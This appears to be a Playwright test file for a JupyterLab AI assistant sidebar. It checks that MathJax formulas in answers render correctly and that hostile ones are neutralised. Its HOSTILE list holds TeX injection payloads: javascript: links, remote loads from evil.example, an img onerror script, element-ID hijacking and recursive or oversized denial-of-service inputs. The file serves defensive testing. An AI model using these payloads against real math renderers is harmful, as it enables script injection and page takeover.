"""Formulas in answers, set by JupyterLab's own MathJax in Chromium; what a hostile one would do is not done."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, expect

from tests.chromium.models import say
from tests.chromium.sidebar import Sidebar
from tests.gateway import Gateway, Reply, Request, running_gateway
from tests.lab import Lab

FORMULAS = r"""The mean is $\bar{x} = \frac{1}{n}\sum_i x_i$, its error \(s/\sqrt{n}\).

$$
\sigma^2 = \frac{1}{n-1}
+ \sum_i (x_i - \bar{x})^2
$$

So \[E = mc^2\] and

```math
\int_0^1 x\,dx = \frac{1}{2}
```

It costs $5 and $10, in `$code$` and

```sh
echo $HOME $PATH
```

The end.
"""
SET = 5

HOSTILE = [
    r"$\href{javascript:window.__pwned=1}{click}$",
    r"$\href{https://evil.example/x}{click}$",
    r"$\style{position:fixed;inset:0;background:url(https://evil.example/a.png)}{x}$",
    r"$\class{jp-Dialog}{x}$ $\cssId{jupyter-config-data}{x}$",
    r"$\require{https://evil.example/x.js}$ $\require{[mathjax]/../evil}$",
    r"$\includegraphics{https://evil.example/b.png}$",
    r"$\unicode[url(https://evil.example/c.woff)]{65}$",
    r"$\mmlToken{mi}[href='javascript:window.__pwned=1']{x}$",
    r"$\bbox[url(https://evil.example/d.png)]{x}$",
    r"$\def\alpha{PWNED}\alpha$ $\newcommand{\beta}{PWNED}$ $\let\gamma\delta$",
    r"$\def\x{\x\x}\x$",
    r"$\text{<img src=https://evil.example/e.png onerror=window.__pwned=1>}$",
    r"$\undefinedcommand{x}$ $\frac{1$ $\left($ $}{$",
    r"$\rule{9000em}{9000em}$ $\kern{-900em}\raise 900em{over}$",
    "$" + "{" * 300 + "x" + "}" * 300 + "$",
    "$" + r"\sqrt{" * 45 + "x" + "}" * 45 + "$",
    r"$$\begin{align}a\label{jupyter-config-data}\tag{main}\end{align}$$ $\eqref{main}$",
    r"$\texttip{x}{y}$ $\toggle{x}{y}\endtoggle$",
]
AFTERWARDS = r"""

Afterwards $\alpha + \beta$.
"""

FOREIGN = """answer => Array.from(answer.querySelectorAll('.jp-Assistant-math *')).flatMap(each =>
  Array.from(each.attributes, ({ name, value }) => ({ tag: each.tagName, name, value }))
).filter(({ tag, name, value }) =>
  /^(on|href|src|xlink|id$|name$|action|form)/.test(name) ||
  (name === 'class' && /(^|\\s)(jp-(?!Assistant-tex)|lm-)/.test(value)) ||
  (name === 'style' && /url|fixed|absolute/.test(value)) ||
  /^(A|IMG|SCRIPT|IFRAME|FORM|INPUT)$/.test(tag)
)"""

OUTSIDE = """answer => {
  const box = answer.getBoundingClientRect();
  return Array.from(answer.querySelectorAll('.jp-Assistant-math')).map(each => each.getBoundingClientRect()).filter(
    ({ left, right, top, bottom }) =>
      left < box.left - 1 || right > box.right + 1 || top < box.top - 1 || bottom > box.bottom + 1
  ).length;
}"""


@pytest.fixture(scope="module")
def gateway() -> Iterator[Gateway]:
    with running_gateway() as running:

        @running.play("formulas")
        async def formulas(reply: Reply, request: Request) -> None:
            text = {"formulas": FORMULAS, "hostile": "\n\n".join(HOSTILE) + AFTERWARDS}[request.question.split()[-1]]
            await say(reply, text, step=9)

        yield running


@pytest.fixture(scope="module")
def environ(gateway: Gateway) -> dict[str, str]:
    return {"JUPYTER_ASSISTANT_BASE_URL": gateway.url, "JUPYTER_ASSISTANT_MODEL": "formulas"}


def answered(sidebar: Sidebar, which: str) -> Locator:
    """The answer with these formulas."""
    sidebar.ask(f"Write {which}")
    return sidebar.finished()


def test_formulas_are_set_and_amounts_and_code_stay_as_they_are(sidebar: Sidebar) -> None:
    answer = answered(sidebar, "formulas")
    expect(answer.locator("mjx-container")).to_have_count(SET)
    expect(answer.locator("mjx-container[display=true]")).to_have_count(3)
    expect(answer.locator(".jp-Assistant-tex, .jp-Assistant-bench")).to_have_count(0)
    expect(answer).to_contain_text("It costs $5 and $10, in $code$ and")
    expect(answer.locator("pre")).to_have_text("echo $HOME $PATH")
    assert answer.locator("mjx-assistive-mml").count() == SET
    heights = answer.locator(".jp-Assistant-math").evaluate_all("all => all.map(each => each.offsetHeight)")
    assert all(height > 10 for height in heights)


def test_in_notebook_7_formulas_are_set_too(lab: Lab, browser: Browser) -> None:
    window = browser.new_context()
    sidebar = Sidebar(lab, window.new_page()).open("notebooks/failing-sales.ipynb")
    expect(answered(sidebar, "formulas").locator("mjx-container")).to_have_count(SET)
    window.close()


def test_formulas_are_there_again_after_a_reload(sidebar: Sidebar) -> None:
    answered(sidebar, "formulas")
    sidebar.reload()
    expect(sidebar.answer.locator("mjx-container")).to_have_count(SET)


def test_a_hostile_formula_runs_nothing_loads_nothing_and_stays_in_its_place(sidebar: Sidebar) -> None:
    before = sidebar.page.evaluate("document.querySelector('#jupyter-config-data').textContent")
    answer = answered(sidebar, "hostile")
    afterwards = answer.locator("p", has_text="Afterwards").locator("mjx-container")
    expect(afterwards).to_have_count(1)
    expect(afterwards).to_contain_text("α+β")
    assert answer.evaluate(FOREIGN) == []
    assert answer.evaluate(OUTSIDE) == 0
    for element in answer.locator(".jp-Assistant-math").all():
        element.click(force=True, position={"x": 1, "y": 1})
    assert sidebar.page.evaluate("'__pwned' in window") is False
    assert sidebar.page.evaluate("document.querySelector('#jupyter-config-data').textContent") == before
    assert sidebar.page.locator(".jp-Dialog").count() == 0
    for name in ("href", "style", "class", "cssId", "require", "def", "newcommand", "unicode", "bbox"):
        expect(answer.locator(".jp-Assistant-tex", has_text=f"\\{name}").first).to_be_visible()
    assert "PWNED" not in afterwards.inner_text()
